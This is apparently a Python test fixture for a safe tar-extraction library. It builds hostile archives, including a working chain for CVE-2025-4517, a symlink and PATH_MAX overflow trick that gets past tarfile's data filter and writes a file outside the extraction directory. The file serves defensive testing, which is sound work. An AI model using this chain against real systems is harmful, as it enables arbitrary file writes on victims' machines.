"""Tar archives a hostile guest would send (for the unit and integration tests of ketch.safetar)."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

Member = tuple[str, str, str]  # kind, name, target or content


def archive(*members: Member, mode: int = 0o644) -> io.BytesIO:
    """A GNU tar of ``members`` (kinds: file, dir, sym, hard, chr, fifo)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for kind, name, extra in members:
            info = tarfile.TarInfo(name)
            info.mode = mode if kind == "file" else 0o755
            if kind == "file":
                info.size = len(extra)
                tar.addfile(info, io.BytesIO(extra.encode()))
                continue
            info.type = {
                "dir": tarfile.DIRTYPE,
                "sym": tarfile.SYMTYPE,
                "hard": tarfile.LNKTYPE,
                "chr": tarfile.CHRTYPE,
                "fifo": tarfile.FIFOTYPE,
            }[kind]
            if kind in ("sym", "hard"):
                info.linkname = extra
            tar.addfile(info)
    buf.seek(0)
    return buf


def cve_2025_4517_chain(dest: Path) -> list[Member]:
    """CPython's realpath-limit attack, every member under ``top/``.

    Directories of long names reached through one-letter symlinks make the
    final link's expansion overflow PATH_MAX, where ``os.path.realpath``
    stops resolving; ``tarfile``'s data filter then sees ``escape`` as
    inside the destination although it is the destination's parent.
    """
    steps = "abcdefghijklmnop"
    max_path = os.pathconf(dest, "PC_PATH_MAX")
    comp = "d" * ((max_path - len(str(dest)) - 1 - len("top/")) // (len(steps) + 1))
    members: list[Member] = [("dir", "./top", "")]
    path = "./top"
    for step in steps:
        members.append(("dir", f"{path}/{comp}", ""))
        members.append(("sym", f"{path}/{step}", comp))
        path = f"{path}/{comp}"
    linkpath = "/".join(steps) + "/" + "l" * 254
    members.append(("sym", f"./top/{linkpath}", "/".join([".."] * (len(steps) + 1))))
    members.append(("sym", "./top/escape", f"{linkpath}/.."))
    members.append(("file", "./top/escape/PWNED", "owned\n"))
    return members
